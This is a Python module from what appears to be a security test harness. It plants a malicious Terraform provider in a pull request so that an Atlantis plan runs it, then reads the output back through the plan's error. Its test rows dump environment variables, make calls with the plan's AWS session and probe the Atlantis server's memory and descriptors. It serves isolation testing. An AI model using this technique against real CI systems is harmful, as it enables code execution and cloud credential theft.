"""Attacks with a Terraform provider that the pull request contains and the plan runs.

Terraform installs a provider from ``terraform.d/plugins`` of the working directory without confirmation, and the plan's error
contains the first line that such a provider prints. The provider is therefore a shell script that prints one line.
"""

import base64
import gzip
import platform
import re
import secrets
from collections.abc import Mapping
from pathlib import Path

from sandbox.attack.plans import reading_row
from sandbox.attack.pull_requests import Answered, planned
from sandbox.attack.row import Outcome, Row, SkippedError, described, filled, row, script
from sandbox.attack.target import Target
from sandbox.testbed import processes

_CONFIGURATION = """
terraform {{
  required_providers {{
    loot = {{ source = "attack.example/pull-request/{type}" }}
  }}
}}

data "loot_loot" "loot" {{}}
"""
_MACHINES = {"x86_64": "amd64", "aarch64": "arm64"}
_FOLDER = Path(__file__).parent
_FRAME = (_FOLDER / "provider.sh").read_text(encoding="utf-8")


def printed(target: Target, name: str, body: str) -> str:
    """The output of ``body`` in a plan."""
    return target.once(name, lambda: run_in_plan(target, name, body)[0])


def run_in_plan(
    target: Target, name: str, body: str, *, directory: str = "", more: Mapping[str, str] | None = None
) -> tuple[str, Answered]:
    """The output of ``body`` in a plan of ``directory``, and the pull request, which also has the files ``more``."""
    answered = plan_with(target, name, body, directory=directory, more=more)
    if (said := said_in(answered)) is None:
        raise RuntimeError(f"the provider of the pull request didn't print a whole line: {answered.text[:1500]}")
    return said, answered


def plan_with(
    target: Target, name: str, body: str, *, directory: str = "", more: Mapping[str, str] | None = None
) -> Answered:
    """Plan ``directory`` with a provider that runs ``body``."""
    machine = _MACHINES.get(platform.machine(), platform.machine())
    # Atlantis' plugin cache is shared by all pull requests, so each run uses a different provider name.
    kind = f"{name}-{secrets.token_hex(4)}"
    folder = f"{directory}terraform.d/plugins/attack.example/pull-request/{kind}/1.0.0/linux_{machine}"
    path = f"{folder}/terraform-provider-{kind}_v1.0.0"
    configuration = {f"{directory}main.tf": _CONFIGURATION.format(type=kind)}
    files = {**configuration, path: filled(_FRAME, body=body), **(more or {})}
    return planned(target, name, files, executables=[path])


def said_in(answered: Answered) -> str | None:
    """The output of the provider; None if the plan ended before it had printed a whole line."""
    found = re.search(r"LOOT:([\sA-Za-z0-9+/=]*):LOOT", answered.text)
    if found is None:
        return None
    return gzip.decompress(base64.b64decode("".join(found[1].split()))).decode(errors="replace")


def in_session(calls: str) -> str:
    """A script that runs ``calls`` in bash after `session.sh`, which defines what they use of the plan's AWS session."""
    session = filled((_FOLDER / "session.sh").read_text(encoding="utf-8"), calls=calls)
    return f"bash <<'BASH'\n{session}\nBASH"


def called(target: Target, name: str, calls: Mapping[str, str], *, service: str = "s3") -> dict[str, int]:
    """The HTTP status of each call, by its label. A call is the arguments of curl; `$own` is the pull request's repository."""
    lines = "\n".join(f"call {label} {arguments}" for label, arguments in calls.items())
    script = filled((_FOLDER / "calls.sh").read_text(encoding="utf-8"), calls=lines, service=service)
    said = printed(target, name, in_session(script))
    found = {label: int(status) for label, status in re.findall(r"^(\S+) (\d+)$", said, re.MULTILINE)}
    if found.keys() != calls.keys():
        raise RuntimeError(f"the provider called {sorted(found)}: {said[:300]}")
    return found


def _health_seconds(target: Target) -> int:
    """The number of seconds to poll: longer than the interval of a health check that ECS runs in the container."""
    workers = target.deployment.sibling("-plan")
    described = (
        workers.task_definition(workers.require_service().definition) if target.isolated else target.task_definition
    )
    checks = [container["healthCheck"] for container in described["containerDefinitions"] if "healthCheck" in container]
    return max([3, *(check.get("interval", 30) + 5 for check in checks)])


def _environments(target: Target) -> str:
    return printed(target, "provider-environments", script("provider-environments", seconds=_health_seconds(target)))


def _reached(target: Target, name: str, pattern: str, which: str) -> Outcome:
    """Whether the provider reached the process ``which``: the server, or a child of the provider as the control."""
    said = printed(target, name, script(name))
    found = re.search(r"server is (?P<server>\d+), child is (?P<child>\d+)", said)
    if found is None or (found["server"] == "0") != target.isolated:
        raise RuntimeError(f"the provider didn't find what it should: {said[:300]}")
    if which == "server" and target.isolated:
        return Outcome(False, "the server isn't among the processes of the worker")
    process = found[which]
    seen = re.search(pattern.format(process=process), said, re.MULTILINE)
    if seen and which == "server" and _is_started_by_the_task(target):
        if name == "provider-server-stopped" and process != "1":
            raise SkippedError(
                "the task isn't a container on this machine, so its server isn't process 1, which the kernel protects; "
                "tests/unit/test_server_start.py starts it as process 1"
            )
        if name != "provider-server-stopped" and _is_root(target):
            raise SkippedError("the server runs as root on this machine, and root can read every process")
    return Outcome(seen is not None, f"{which} {process}: {seen[0] if seen else 'not reached'}")


def _is_root(target: Target) -> bool:
    """Whether the sandbox has no separate user for the task, so that the protection can't work (sandbox/atlantis/README.md)."""
    server = processes.find(target.deployment.state, target.deployment.name)
    return server is not None and Path(f"/proc/{server.pid}").stat().st_uid == 0


def _is_started_by_the_task(target: Target) -> bool:
    """Whether the task definition starts the server, and not the image's entry point."""
    return any("entryPoint" in container for container in target.task_definition["containerDefinitions"])


def _on_server(name: str) -> Row:
    (pattern,) = described("found")[name]
    return row(
        name,
        lambda target: _reached(target, name, pattern, "server"),
        lambda target: _reached(target, name, pattern, "child"),
    )


ROWS = (
    reading_row("provider-environments", _environments),
    _on_server("provider-server-memory"),
    _on_server("provider-server-descriptors"),
    _on_server("provider-server-stopped"),
)
